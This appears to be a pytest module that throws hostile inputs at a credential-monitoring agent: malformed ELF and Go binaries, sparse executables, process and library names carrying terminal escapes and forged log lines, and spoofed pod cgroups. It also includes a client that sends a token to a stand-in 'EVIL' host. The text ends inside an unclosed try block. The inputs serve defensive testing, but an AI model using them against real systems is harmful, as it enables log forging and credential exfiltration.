# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""Hostile executables and names: what any local user controls, thrown at the real agent.

ELF files whose section headers lie, a Go binary whose function table (.gopclntab) lies, a
0-byte and a 4 GiB sparse executable, process names, argv, environments and library file
names full of control bytes, ANSI escapes, invalid UTF-8 and newlines, cgroups named like pods
and containers, and a user's cgroups named after a root container or a system service.
Each test checks that the agent is still the one that started (alive, and still reporting a
normal token in an argv), that every line it printed is valid JSON its format accepts (the
running agent checks each line as it comes) and every line it logged is one line with no
control byte, that redaction holds and no plaintext secret appears, and that nothing lands on
a pod, container or service it does not belong to.

Under `make test-asan` (the agent built with ASan+UBSan) the same inputs check the agent's
memory safety too.

One agent runs for the whole module (starting one costs seconds); fixtures are built once.
"""
import glob
import os
import re
import secrets
import shutil
import struct
import subprocess
import tempfile
import time
import urllib.request
import uuid

import pytest

from cwtest import github_token, redacted, require_root, running_agent, wait_own, wait_until
from test_first_exec import C_CLIENT, DEADLINE_S
from test_tls import EVIL, GO_CLIENT, TlsServer, _build_go, free_port
from test_workloads import PODS_DIR, cgroup2_root

ARGV = "credential-in-argv"
EGRESS = "credential-unexpected-destination"


@pytest.fixture(scope="module")
def workdir():
    d = tempfile.mkdtemp(prefix="cw-hostile-")
    os.chmod(d, 0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


class Running:
    """The module's agent, its metrics address and a TLS server for clients to send to."""

    def __init__(self, agent, metrics, srv):
        self.agent, self.metrics, self.srv = agent, metrics, srv
        self.pid = agent.proc.pid
        self.secrets = []

    def holds(self):
        """First execs held, continued by the agent, and continued at the deadline so far:
        the agent's credwatch_first_exec_{held,continued,deadline}_total (its metrics are a
        snapshot taken each second)."""
        text = urllib.request.urlopen("http://%s/metrics" % self.metrics, timeout=5).read()
        out = []
        for name in ("held", "continued", "deadline"):
            m = re.search(rb"^credwatch_first_exec_%s_total (\d+)" % name.encode(), text, re.M)
            assert m, text[:2000]
            out.append(int(m[1]))
        return tuple(out)

    def wait_held(self, before, n):
        """Wait until n more first execs than `before` (holds()) were held and continued by
        the agent; the counts then. Those continued at the deadline are the test's to check."""
        wait_until(lambda: all(a - b >= n for a, b in
                               zip(self.holds()[:2], before[:2])), 10)
        return self.holds()

    def healthy(self):
        """The agent that started (self.pid) is still running, every line so far is valid,
        and a normal token in an argv is still reported, from the right process."""
        a = self.agent
        assert a.alive(), "the agent (pid %d) died: %s" % (self.pid, a.stderr()[-3000:])
        token = self.token()
        p = subprocess.Popen(["/bin/true", "--token=" + token])
        assert p.wait(10) == 0
        hits = wait_own(a, token, ARGV, timeout=10)
        assert len(hits) == 1, (hits, a.stderr()[-3000:])
        assert hits[0]["process"]["pid"] == p.pid
        a.assert_format()
        # its log has no byte a terminal would act on: names are not written raw there either
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", a.stderr()), a.stderr()[-3000:]

    def token(self):
        t = github_token()
        self.secrets.append(t)
        return t


@pytest.fixture(scope="module")
def running(workdir):
    require_root()
    metrics = "127.0.0.1:%d" % free_port()
    # -v: its debug lines name the files it attaches to, names a test chooses
    with running_agent("-v", "--include-loopback", "--events", "--metrics", metrics) as agent, \
            TlsServer() as srv:
        r = Running(agent, metrics, srv)
        yield r
        r.healthy()
    assert agent.returncode == 0, agent.stderr()[-3000:]
    agent.assert_no_plaintext(*r.secrets)


# ELF files whose section headers lie.

EHDR_SHOFF, EHDR_SHNUM, EHDR_SHSTRNDX = 0x28, 0x3c, 0x3e
# Elf64_Shdr fields: (offset in the header, struct format)
SH = {"name": (0, "<I"), "type": (4, "<I"), "flags": (8, "<Q"), "addr": (16, "<Q"),
      "offset": (24, "<Q"), "size": (32, "<Q"), "link": (40, "<I"), "info": (44, "<I"),
      "entsize": (56, "<Q")}
SHT_SYMTAB, SHT_DYNSYM = 2, 11


class Elf:
    """An ELF64 little-endian file's bytes, with its section headers by name, to lie in."""

    def __init__(self, data):
        self.b = bytearray(data)
        assert self.b[:4] == b"\x7fELF" and self.b[4] == 2 and self.b[5] == 1
        shoff, = struct.unpack_from("<Q", self.b, EHDR_SHOFF)
        shnum, shstrndx = struct.unpack_from("<HH", self.b, EHDR_SHNUM)
        self.hdrs = [shoff + 64 * i for i in range(shnum)]
        strtab = self.get(self.hdrs[shstrndx], "offset")
        self.by_name = {}
        for h in self.hdrs:
            o = strtab + self.get(h, "name")
            self.by_name[bytes(self.b[o:self.b.index(b"\0", o)]).decode()] = h

    def get(self, hdr, field):
        off, fmt = SH[field]
        return struct.unpack_from(fmt, self.b, hdr + off)[0]

    def set(self, hdr, field, value):
        off, fmt = SH[field]
        struct.pack_into(fmt, self.b, hdr + off, value)

    def sym_tables(self):
        return [h for h in self.hdrs if self.get(h, "type") in (SHT_SYMTAB, SHT_DYNSYM)]


def lie_shoff_past_end(e):
    struct.pack_into("<Q", e.b, EHDR_SHOFF, len(e.b) + (1 << 20))


def lie_shnum_huge(e):
    struct.pack_into("<H", e.b, EHDR_SHNUM, 0xfeff)


def lie_shnum_extended_huge(e):
    # e_shnum 0: the count is section 0's sh_size (ELF extended numbering)
    struct.pack_into("<H", e.b, EHDR_SHNUM, 0)
    e.set(e.hdrs[0], "size", 0xffffffff)


def lie_shstrndx_out_of_range(e):
    struct.pack_into("<H", e.b, EHDR_SHSTRNDX, 0xfeff)


def lie_shstrndx_extended_out_of_range(e):
    struct.pack_into("<H", e.b, EHDR_SHSTRNDX, 0xffff)  # SHN_XINDEX: section 0's sh_link
    e.set(e.hdrs[0], "link", 0xfffffff0)


def lie_sections_past_end(e):
    for h in e.hdrs[1:]:
        e.set(h, "offset", len(e.b) + 4096 * e.hdrs.index(h))


def lie_sections_overlap(e):
    # every section on the symbol table's bytes, each as long as the whole file
    base = e.get(e.sym_tables()[0], "offset")
    for h in e.hdrs[1:]:
        e.set(h, "offset", base)
        e.set(h, "size", len(e.b) - base)


def lie_symtab_runs_past(e):
    for h in e.sym_tables():
        e.set(h, "size", len(e.b) - e.get(h, "offset") + 24 * 1000)


def lie_symtab_size_huge(e):
    for h in e.sym_tables():
        e.set(h, "size", 1 << 62)


def lie_symtab_entsize(e):
    for h in e.sym_tables():
        e.set(h, "entsize", 1)


def lie_symtab_link_out_of_range(e):
    for h in e.sym_tables():
        e.set(h, "link", 0xfffffff0)


def lie_symbols_forged(e):
    # The symbol tables' headers point at forged ones appended to the file (the loader reads
    # the real ones through the dynamic segment, so the program still runs): names past their
    # string table, one left unterminated at the end of the file, TLS entry points at the last
    # byte of the code, at addresses past it, with sizes past the file.
    text = e.by_name[".text"]
    end = e.get(text, "addr") + e.get(text, "size") - 1
    strtab = len(e.b)
    names = b"\0SSL_write\0gnutls_record_send\0crypto/tls.(*Conn).Write\0"
    e.b += names
    syms = len(e.b)
    sym = lambda name, value, size: struct.pack("<IBBHQQ", name, 0x12, 0, 14, value, size)
    table = [sym(0, 0, 0), sym(1, end, 1 << 33), sym(11, end + (1 << 40), 64),
             sym(names.index(b"crypto"), end - 4, 5)]
    table += [sym(0xfffffff0 - i, end - i, 16) for i in range(64)]
    # the last name, "SSL_write_ex" without its NUL, ends the file
    table.append(sym(syms + 24 * (len(table) + 1) - strtab, end, 8))
    e.b += b"".join(table) + b"SSL_write_ex"
    for h in e.sym_tables():
        e.set(h, "offset", syms)
        e.set(h, "size", 24 * len(table))
        e.set(h, "link", e.hdrs.index(e.by_name[".dynstr"]))
    e.set(e.by_name[".dynstr"], "offset", strtab)
    e.set(e.by_name[".dynstr"], "size", len(e.b) - strtab)


def lie_text_everywhere(e):
    # executable sections that cover the whole address space: every address "is" code
    for h in e.hdrs[1:]:
        if e.get(h, "flags") & 4:  # SHF_EXECINSTR
            e.set(h, "addr", 0)
            e.set(h, "size", (1 << 64) - 1)
            e.set(h, "offset", (1 << 63))


LIES = [lie_shoff_past_end, lie_shnum_huge, lie_shnum_extended_huge, lie_shstrndx_out_of_range,
        lie_shstrndx_extended_out_of_range, lie_sections_past_end, lie_sections_overlap,
        lie_symtab_runs_past, lie_symtab_size_huge, lie_symtab_entsize,
        lie_symtab_link_out_of_range, lie_symbols_forged, lie_text_everywhere]


def lying_copies(src, d, prefix):
    """One copy of the executable src per lie in LIES, in d: [(lie's name, path)]."""
    with open(src, "rb") as f:
        data = f.read()
    out = []
    for lie in LIES:
        e = Elf(data)
        lie(e)
        path = os.path.join(d, "%s-%s" % (prefix, lie.__name__[4:]))
        with open(path, "wb") as f:
            f.write(e.b)
        os.chmod(path, 0o755)
        out.append((lie.__name__[4:], path))
    return out


def ssl_client(d):
    """The test's C TLS client, linked against the shared libssl."""
    if not shutil.which("gcc") or not os.path.exists("/usr/include/openssl/ssl.h"):
        pytest.skip("needs gcc and libssl-dev")
    src, exe = os.path.join(d, "sslclient.c"), os.path.join(d, "sslclient")
    with open(src, "w") as f:
        f.write(C_CLIENT)
    subprocess.run(["gcc", "-O2", "-o", exe, src, "-lssl", "-lcrypto"], check=True,
                   capture_output=True, timeout=120)
    return exe


def test_elf_section_headers_that_lie(running, workdir):
    """/bin/true and a libssl client with each lie: every one is held at its first exec (its
    ELF read), its argv token is reported from it, and the lying TLS client's token is still
    seen going out through the shared libssl."""
    d = os.path.join(workdir, "elf")
    os.mkdir(d)
    trues = lying_copies("/bin/true", d, "true")
    clients = lying_copies(ssl_client(d), d, "ssl")
    a = running.agent
    holds0 = running.holds()
    for name, exe in trues:
        token = running.token()
        p = subprocess.run([exe, "--token=" + token], timeout=10)
        assert p.returncode == 0, name
        hits = wait_own(a, token, ARGV, timeout=10)
        assert len(hits) == 1, (name, hits, a.stderr()[-2000:])
        assert hits[0]["process"]["executable"] == exe, (name, hits[0]["process"])
        assert hits[0]["credwatch"]["credential"]["redacted"] == redacted(token)
    for name, exe in clients:
        token = running.token()
        p = subprocess.Popen([exe, str(running.srv.port), EVIL], env={"TOKEN": token})
        assert p.wait(30) == 0, name
        hits = wait_own(a, token, EGRESS, timeout=10)
        assert len(hits) == 1, (name, hits, a.stderr()[-2000:])
        assert hits[0]["process"]["pid"] == p.pid, (name, hits[0]["process"])
        assert hits[0]["destination"]["domain"] == EVIL
        assert hits[0]["credwatch"]["tls"]["library"] == "openssl"
    # each is a new executable: its first exec was held while its ELF was read
    holds = running.wait_held(holds0, len(trues) + len(clients))
    assert holds[0] - holds0[0] >= len(trues) + len(clients), (holds0, holds)
    assert holds[1] - holds0[1] >= len(trues) + len(clients), (holds0, holds)
    assert holds[2] == holds0[2], "a lying ELF was read past the first-exec deadline"
    running.healthy()


# A Go binary whose function table lies.

GO_WRITE = b"crypto/tls.(*Conn).Write\0"
# .gopclntab's header (Go 1.18+): magic, pads, quantum, pointer size, then 8-byte fields; the
# runtime checks the magic and textStart, and reads the rest through its moduledata instead
PCLN_NFUNC, PCLN_NAMES, PCLN_FUNCTAB = 8, 32, 64


class Pclntab:
    """A Go binary's .gopclntab: where it is in the file, and its header's offsets."""

    def __init__(self, e):
        self.e = e
        self.hdr = e.by_name[".gopclntab"]
        self.off, self.size = e.get(self.hdr, "offset"), e.get(self.hdr, "size")

    def u64(self, at):
        return struct.unpack_from("<Q", self.e.b, self.off + at)[0]

    def set_u64(self, at, v):
        struct.pack_into("<Q", self.e.b, self.off + at, v)

    def target(self):
        """The file offset of crypto/tls.(*Conn).Write's _func.nameOff."""
        nfunc, names, functab = (self.u64(PCLN_NFUNC), self.u64(PCLN_NAMES),
                                 self.u64(PCLN_FUNCTAB))
        t = self.off + functab
        for i in range(nfunc):
            func, = struct.unpack_from("<I", self.e.b, t + 8 * i + 4)
            name_at = t + func + 4
            noff, = struct.unpack_from("<i", self.e.b, name_at)
            o = self.off + names + noff
            if self.e.b[o:o + len(GO_WRITE)] == GO_WRITE:
                return name_at
        raise AssertionError("no crypto/tls.(*Conn).Write in the test's Go client")


def go_nfunc_past_table(p):
    # as many functions as the table's bytes could hold: entries read from the _func data
    # after the real table (the runtime counts its functions itself)
    p.set_u64(PCLN_NFUNC, (p.size - p.u64(PCLN_FUNCTAB)) // 8)


def go_nfunc_huge(p):
    p.set_u64(PCLN_NFUNC, 1 << 61)


def go_functab_at_end(p):
    p.set_u64(PCLN_FUNCTAB, p.size - 8)
    p.set_u64(PCLN_NFUNC, 1)


def go_names_past_end(p):
    p.set_u64(PCLN_NAMES, p.size - 4)


def go_names_shifted(p):
    p.set_u64(PCLN_NAMES, p.u64(PCLN_NAMES) + 1)


def go_name_before_table(p):
    # crypto/tls's name offset negative, reaching just before the table's first byte: an
    # offset that wraps around and, unchecked, passes a bounds check on (offset + length)
    struct.pack_into("<i", p.e.b, p.target(), -(p.u64(PCLN_NAMES) + 10))


def go_section_past_end(p):
    p.e.set(p.hdr, "offset", len(p.e.b) + (1 << 30))


def go_section_size_huge(p):
    p.e.set(p.hdr, "size", 1 << 62)


GO_LIES = [go_nfunc_past_table, go_nfunc_huge, go_functab_at_end, go_names_past_end,
           go_names_shifted, go_name_before_table, go_section_past_end, go_section_size_huge]
# lies that leave crypto/tls.(*Conn).Write where the table says: its token is still seen
GO_STILL_FOUND = {"nfunc_past_table"}


@pytest.fixture(scope="module")
def go_client(workdir):
    d = os.path.join(workdir, "go")
    os.mkdir(d)
    _build_go(d, GO_CLIENT, stripped=True)  # stripped: crypto/tls is found through .gopclntab
    return os.path.join(d, "client")


def test_go_pclntab_that_lies(running, go_client, workdir):
    """A stripped Go TLS client whose .gopclntab says what it should not: each copy runs as
    fast as an honest one would (not held past the first-exec deadline) and sends its token;
    the honest copy's token and those of lies that leave the function where it is are seen.
    """
    with open(go_client, "rb") as f:
        data = f.read()
    copies = [("honest", go_client)]
    for lie in GO_LIES:
        e = Elf(data)
        lie(Pclntab(e))
        path = os.path.join(workdir, "go", "client-" + lie.__name__[3:])
        with open(path, "wb") as f:
            f.write(e.b)
        os.chmod(path, 0o755)
        copies.append((lie.__name__[3:], path))
    a = running.agent
    holds0 = running.holds()
    for name, exe in copies:
        token = running.token()
        t0 = time.monotonic()
        p = subprocess.run([exe, "127.0.0.1:%d" % running.srv.port, EVIL],
                           env={"TOKEN": token}, capture_output=True, timeout=30)
        took = time.monotonic() - t0
        assert p.returncode == 0, (name, p.returncode, p.stderr[-800:])
        assert took < DEADLINE_S + 1.0, (name, took)
        if name == "honest" or name in GO_STILL_FOUND:
            hits = wait_own(a, token, EGRESS, timeout=10)
            assert len(hits) == 1, (name, hits, a.stderr()[-2000:])
            assert hits[0]["credwatch"]["tls"]["library"] == "go", hits[0]
            assert hits[0]["destination"]["domain"] == EVIL
    # every lying copy is a new executable, held while its ELF was read
    holds = running.wait_held(holds0, len(GO_LIES))
    assert holds[1] - holds0[1] >= len(GO_LIES), (holds0, holds)
    assert holds[2] == holds0[2], "a lying .gopclntab was read past the first-exec deadline"
    running.healthy()


# A 0-byte and a 4 GiB sparse executable.

GIB4 = 4 << 30


def agent_io(pid):
    """(bytes the agent has read, its peak RSS in KiB), from /proc."""
    with open("/proc/%d/io" % pid) as f:
        rchar = int(re.search(r"^rchar: (\d+)", f.read(), re.M)[1])
    with open("/proc/%d/status" % pid) as f:
        hwm = int(re.search(r"^VmHWM:\s+(\d+) kB", f.read(), re.M)[1])
    return rchar, hwm


def sparse_4g(path, e, end=None):
    """e's bytes (an Elf, or bytes), then a hole up to end, or to 4 GiB."""
    with open(path, "wb") as f:
        f.write(e.b if isinstance(e, Elf) else e)
        f.truncate(end if end is not None else GIB4)
    os.chmod(path, 0o755)
    return path


def say_4g(e, name):
    """Section name says it runs 4 GiB (the file is made that long): its end."""
    h = e.by_name[name]
    e.set(h, "size", GIB4 // 24 * 24)
    return e.get(h, "offset") + GIB4


def test_empty_and_4gib_sparse_executables(running, go_client, workdir):
    """A 0-byte and a 4 GiB all-hole executable (the kernel refuses both), and 4 GiB sparse
    copies of /bin/true, of a libssl client and of the Go client whose sections say they run
    the whole 4 GiB (symbol table, its strings, section names, .gopclntab) or whose section
    headers sit at its end: those run, each is held and continued by the agent before the
    first-exec deadline, and the agent reads nowhere near 4 GiB nor grows by it."""
    d = os.path.join(workdir, "sparse")
    os.mkdir(d)
    empty = os.path.join(d, "empty")
    open(empty, "wb").close()
    os.chmod(empty, 0o755)
    true = open("/bin/true", "rb").read()
    holes = sparse_4g(os.path.join(d, "holes"), b"")
    elf_holes = sparse_4g(os.path.join(d, "elf-holes"), true[:64])  # an ELF header, then holes
    client = open(ssl_client(d), "rb").read()
    with open(go_client, "rb") as f:
        go = f.read()
    runs = []  # (path, argv after it, env, token it sends over TLS or None)
    for name in (".dynsym", ".dynstr", ".shstrtab"):
        e = Elf(true)
        runs.append((sparse_4g(os.path.join(d, "true" + name), e, say_4g(e, name)), [], {}, None))
        e = Elf(client)
        tok = running.token()
        runs.append((sparse_4g(os.path.join(d, "ssl" + name), e, say_4g(e, name)),
                     [str(running.srv.port), EVIL], {"TOKEN": tok}, tok))
    e = Elf(true)
    struct.pack_into("<Q", e.b, EHDR_SHOFF, GIB4 - 64 * len(e.hdrs))
    runs.append((sparse_4g(os.path.join(d, "true-headers-at-end"), e), [], {}, None))
    # a .gopclntab too long to read is not read: crypto/tls is not found, its token not seen
    e = Elf(go)
    runs.append((sparse_4g(os.path.join(d, "go.gopclntab"), e, say_4g(e, ".gopclntab")),
                 ["127.0.0.1:%d" % running.srv.port, EVIL], {"TOKEN": running.token()}, None))
    a = running.agent
    read0, hwm0 = agent_io(a.proc.pid)
    holds0 = running.holds()
    for exe in (empty, holes):
        with pytest.raises(OSError) as err:
            subprocess.run([exe], timeout=10)
        assert err.value.errno == 8, exe  # ENOEXEC: the kernel refuses it
    # the kernel takes an ELF header whose program headers are all holes, and the program dies
    # at once (no code mapped): its exec is seen, and its ELF read
    assert subprocess.run([elf_holes], timeout=10).returncode < 0
    for exe, args, env, tok in runs:
        t0 = time.monotonic()
        p = subprocess.run([exe, *args], env=env, capture_output=True, timeout=30)
        took = time.monotonic() - t0
        assert p.returncode == 0, (exe, p.returncode, p.stderr[-500:])
        assert took < DEADLINE_S + 1.0, (exe, took)  # a TLS handshake included
        if tok:  # the library's probes see it, whatever the executable's sections say
            assert len(wait_own(a, tok, EGRESS, timeout=10)) == 1, (exe, a.stderr()[-2000:])
    # each was held while the agent read its ELF, and continued by the agent, not the deadline
    holds = running.wait_held(holds0, len(runs))
    assert holds[0] - holds0[0] >= len(runs), (holds0, holds)
    assert holds[1] - holds0[1] >= len(runs), (holds0, holds)
    assert holds[2] == holds0[2], "a sparse executable was read past the first-exec deadline"
    read, hwm = agent_io(a.proc.pid)
    assert read - read0 < 256 << 20, "the agent read %d MiB" % ((read - read0) >> 20)
    assert hwm - hwm0 < 256 << 10, "the agent grew by %d MiB" % ((hwm - hwm0) >> 10)
    running.healthy()


# Process names, argv and environments that are not text.

# names a local user can give a process: escapes that repaint a terminal, newlines that start
# a log line of their own, bytes that are not UTF-8 (alone, cut, overlong, a surrogate), JSON
# and a right-to-left override, and one cut by the kernel in the middle of a character
HOSTILE_NAMES = [
    b"\x1b[31mred\x1b[0m", b"a\nb\rc\td", b"\xff\xfe\xc3(", b"\x7f\x01\x08\x1b]0;t\x07",
    b"\xc0\xaf\xed\xa0\x80", b'"},{"x":"\\', b"\xe2\x80\xaeexe.txt", b"\xc3\xa9" * 12,
    b"\xe2\x80\xa8ls", b"-" + b"x" * 250,
]


def as_json_text(b):
    """What the agent's JSON writer makes of bytes b: valid UTF-8 kept, each other byte
    U+FFFD."""
    out, i = [], 0
    while i < len(b):
        for n in (1, 2, 3, 4):
            try:
                ch = b[i:i + n].decode("utf-8")
            except UnicodeDecodeError:
                continue
            if len(ch) == 1:
                out.append(ch)
                i += n
                break
        else:
            out.append("\ufffd")
            i += 1
    return "".join(out)


PRCTL_CLIENT = r'''
import ctypes, os, socket, ssl, sys
name = bytes.fromhex(sys.argv[3])
assert ctypes.CDLL(None).prctl(15, ctypes.c_char_p(name), 0, 0, 0) == 0  # PR_SET_NAME
ctx = ssl._create_unverified_context()
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[1]))),
                    server_hostname=sys.argv[2])
s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n\r\n"
           % (sys.argv[2], os.environ["TOKEN"])).encode())
s.recv(100)
'''


def test_names_argv_and_env_that_are_not_text(running, workdir):
    """Executables named by symlinks (the process name comes from the name exec'd), argv
    (argv[0] included) and environments full of control bytes, escapes, invalid UTF-8,
    newlines and long values, each with tokens; processes renaming themselves (PR_SET_NAME)
    before they send a token over TLS. Every finding is valid JSON whose process name is the
    name given, as JSON text; the right process, redaction and fingerprint; no plaintext."""
    d = os.path.join(workdir, "names").encode()
    os.mkdir(d)
    a = running.agent
    for i, name in enumerate(HOSTILE_NAMES):
        link = os.path.join(d, name)
        os.symlink(b"/bin/true", link)
        tok, long_tok, env_tok = running.token(), running.token(), running.token()
        argv = [name + b"\n\xff", b"\x1b]0;pwned\x07", b"\xff\xfe", b"line1\nline2\r\n",
                b"--token=" + tok.encode() + b"\n\x1b[0m\xff" + name,
                b"\x1b[2J\n" + long_tok.encode() + b"\n" + b"\x1b" * 8000]
        env = {b"PATH": b"/usr/bin:/bin",
               name.replace(b"=", b"-") + b"_TOKEN": env_tok.encode(),
               b"X\x1b[31m": b"\xff\n" * 4000}
        p = subprocess.Popen(argv, executable=link, env=env)
        assert p.wait(10) == 0
        hits = [wait_own(a, t, ARGV, timeout=10) for t in (tok, long_tok)]
        for t, h in zip((tok, long_tok), hits):
            assert len(h) == 1, (name, h, a.stderr()[-2000:])
            f = h[0]
            assert f["process"]["pid"] == p.pid, (name, f["process"])
            assert f["process"]["name"] == as_json_text(name[:15]), (name, f["process"])
            # the path exec'd (the event's), or where it leads (/proc/PID/exe, while it runs)
            assert f["process"]["executable"] in (as_json_text(link), "/usr/bin/true"), \
                (name, f["process"])
            assert f["credwatch"]["credential"]["redacted"] == redacted(t)
        assert [h[0]["credwatch"]["credential"]["arg_index"] for h in hits] == [4, 5]
        obs = wait_own(a, env_tok, "credential-observed", timeout=10)
        assert len(obs) == 1 and obs[0]["process"]["pid"] == p.pid, (name, obs)
        assert obs[0]["credwatch"]["credential"]["variable"] == \
            as_json_text(name.replace(b"=", b"-") + b"_TOKEN"), obs[0]["credwatch"]
    # a process that renames itself after its exec, then sends a token
    for name in HOSTILE_NAMES[:6]:
        tok = running.token()
        p = subprocess.Popen(["/usr/bin/python3", "-c", PRCTL_CLIENT, str(running.srv.port),
                              EVIL, name.hex()], env={"TOKEN": tok})
        assert p.wait(30) == 0
        hits = wait_own(a, tok, EGRESS, timeout=10)
        assert len(hits) == 1, (name, hits, a.stderr()[-2000:])
        assert hits[0]["process"]["pid"] == p.pid
        assert hits[0]["process"]["name"] == as_json_text(name[:15]), hits[0]["process"]
        assert hits[0]["credwatch"]["credential"]["redacted"] == redacted(tok)
    running.healthy()


def test_library_names_in_the_log(running, go_client, workdir):
    """A new filesystem root (a chroot) whose libssl is named to forge a log line and repaint
    a terminal: the agent attaches to it at the first exec there (-v says so), naming it with
    its control bytes escaped; the Go client run there is seen."""
    root = os.path.join(workdir, "root")
    lib = os.path.join(root, "usr/lib/x86_64-linux-gnu")
    os.makedirs(lib)
    name = b"libssl.so.3\x1b[31m\ncredwatch: forged\xff"
    shutil.copy(ssl_library(), os.path.join(lib.encode(), name))
    shutil.copy(go_client, os.path.join(root, "client"))
    tok = running.token()
    p = subprocess.Popen([shutil.which("chroot"), root, "/client",
                          "127.0.0.1:%d" % running.srv.port, EVIL], env={"TOKEN": tok})
    assert p.wait(30) == 0
    hits = wait_own(running.agent, tok, EGRESS, timeout=10)
    assert len(hits) == 1 and hits[0]["process"]["pid"] == p.pid, hits
    escaped = "libssl.so.3\\x1b[31m\\x0acredwatch: forged"
    assert wait_until(lambda: "TLS probes attached to /proc/%d/root/usr/lib/x86_64-linux-gnu/%s"
                      % (p.pid, escaped) in running.agent.stderr(), 5), \
        running.agent.stderr()[-3000:]
    running.healthy()


def ssl_library():
    """The system's libssl.so.3."""
    return glob.glob("/usr/lib/*-linux-gnu/libssl.so.3")[0]


# Cgroups named like pods and containers.

NOBODY = 65534


class Cgroups:
    """The test's own cgroup v2 subtree; removed, deepest first, when the block ends."""

    def __init__(self):
        self.top = os.path.join(cgroup2_root(), "cw-hostile-" + secrets.token_hex(4))
        os.mkdir(self.top)
        self.made = [[]]

    def __enter__(self):
        return self

    def mkdir(self, *names, user=None):
        """Make top/names... (each name one component, any bytes but '/'), as root or as
        user (in a directory delegated to it); the components, for run()."""
        comps = [n if isinstance(n, bytes) else n.encode() for n in names]
        fd = os.open(self.top, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for i, c in enumerate(comps):
                try:
                    if user is None or i < len(comps) - 1:
                        os.mkdir(c, dir_fd=fd)
                    else:  # the last one made by the user itself
                        subprocess.run(["setpriv", "--reuid=%d" % user, "--regid=%d" % user,
                                        "--clear-groups", "mkdir", "--", c],
                                       cwd="/proc/self/fd/%d" % fd, pass_fds=(fd,),
                                       check=True, timeout=10)
                    self.made.append(comps[:i + 1])
                except FileExistsError:
                    pass
                nfd = os.open(c, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = nfd
            return comps, os.fstat(fd).st_ino
        finally:
            os.close(fd)

    def delegate(self, name, user):
        """top/name, owned by user with its control files, as systemd delegates a subtree."""
        comps, _ = self.mkdir(name)
        d = os.path.join(self.top, name)
        for f in ("", "cgroup.procs", "cgroup.threads", "cgroup.subtree_control"):
            os.chown(os.path.join(d, f), user, user)
        return comps

    def run(self, comps, argv):
        """argv run in the cgroup top/comps... (joined before its exec); its pid."""
        def join():
            os.chdir(self.top)
            for c in comps:
                os.chdir(c)
            with open("cgroup.procs", "w") as f:
                f.write(str(os.getpid()))
        p = subprocess.Popen(argv, preexec_fn=join)
        assert p.wait(10) == 0
        return p.pid

    def __exit__(self, *exc):
        for comps in sorted(self.made[1:], key=len, reverse=True):
            fd = os.open(self.top, os.O_RDONLY | os.O_DIRECTORY)
            try:
                for c in comps[:-1]:
                    nfd = os.open(c, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                    os.close(fd)
                    fd = nfd
                wait_until(lambda: _rmdir(comps[-1], fd), 5)
            finally:
                os.close(fd)
        wait_until(lambda: _rmdir(self.top, None), 5)


def _rmdir(name, fd):
    try:
        os.rmdir(name, dir_fd=fd)
    except FileNotFoundError:
        pass
    except OSError:
        return False  # its processes are still leaving
    return True


def test_cgroups_named_like_pods_and_containers(running):
    """Processes with a token in argv in cgroups named like a pod, a container, with
    newlines, dots and very long paths, some made by a user in a subtree delegated to it. The
    finding names the process's own cgroup, and what it says of a pod or container is what the
    agent derives for a cgroup root made: never a pod's name that /var/log/pods does not
    give for that UID, and nothing of a pod from a cgroup a user made, though a real pod
    (its log directory there) has that UID."""
    if not shutil.which("setpriv"):
        pytest.skip("needs setpriv (util-linux)")
    a = running.agent
    real_uid = str(uuid.uuid4())  # a pod the kubelet would have: its log directory
    real_log = os.path.join(PODS_DIR, "cw-hostile_victim-%s_%s" % (secrets.token_hex(3),
                                                                   real_uid))
    os.makedirs(os.path.join(real_log, "app"))
    fake_uid, cid = str(uuid.uuid4()), secrets.token_hex(32)
    slice_of = lambda u, qos="burstable": "kubepods-%s-pod%s.slice" % (qos, u.replace("-", "_"))
    try:
        with Cgroups() as cg:
            def finding(comps):
                tok = running.token()
                pid = cg.run(comps, ["/bin/true", "--token=" + tok])
                hits = wait_own(a, tok, ARGV, timeout=10)
                assert len(hits) == 1, (comps, hits, a.stderr()[-2000:])
                assert hits[0]["process"]["pid"] == pid
                return hits[0]

            def cgroup_of(f, comps, ino):
                assert f["credwatch"]["cgroup_id"] == ino, (comps, f["credwatch"])
                path = b"/".join([b""] + cg.top[len(cgroup2_root()):].encode().split(b"/")[1:]
                                 + comps)
                if len(path) < 512:
                    assert f["credwatch"]["cgroup"] == as_json_text(path), f["credwatch"]
                else:  # too long to name whole: left out, never cut
                    assert "cgroup" not in f["credwatch"], f["credwatch"]

            host = finding(cg.mkdir("plain")[0])
            host_wl = host["credwatch"]["workload"]
            assert "orchestrator" not in host and "container" not in host, host
            # a user's cgroup named after a real pod, and its container: not that pod's
            deleg = cg.delegate("delegated", NOBODY)
            for leaf in (slice_of(real_uid), "cri-containerd-%s.scope" % cid):
                comps, ino = cg.mkdir(*deleg, leaf, user=NOBODY)
                f = finding(comps)
                cgroup_of(f, comps, ino)
                assert "orchestrator" not in f and "container" not in f, (leaf, f)
                assert f["credwatch"]["workload"] == host_wl, (leaf, f["credwatch"])
            # made by root: a pod's UID and a container's id, and no name the log
            # directories do not give
            comps, ino = cg.mkdir("kubepods.slice", "kubepods-burstable.slice",
                                  slice_of(fake_uid), "cri-containerd-%s.scope" % cid)
            f = finding(comps)
            cgroup_of(f, comps, ino)
            assert f["orchestrator"]["resource"] == {"type": "pod", "id": fake_uid}, f
            assert "namespace" not in f["orchestrator"], f
            assert f["container"] == {"id": cid, "runtime": "containerd"}, f
            assert f["credwatch"]["workload"] == "pod:" + fake_uid, f["credwatch"]
            # names that only look like a pod's or escape a path: no pod, no container
            # (the kernel refuses a newline in a cgroup's name: /proc/PID/cgroup stays one
            # line per hierarchy)
            with pytest.raises(OSError) as err:
                cg.mkdir(b"x\n0::")
            assert err.value.errno == 22
            odd = [b"x\r" + slice_of(fake_uid).encode(),
                   slice_of(fake_uid).encode() + b"\r", b"...", b".. ..", b" ..", b"\x1b[31m\xff",
                   b"cri-containerd-" + cid.encode() + b".scope\t", b"\x1b" * 255,
                   b"docker", b"kubepods"]
            for name in odd:
                comps, ino = cg.mkdir(name)
                f = finding(comps)
                cgroup_of(f, comps, ino)
                assert "orchestrator" not in f and "container" not in f, (name, f)
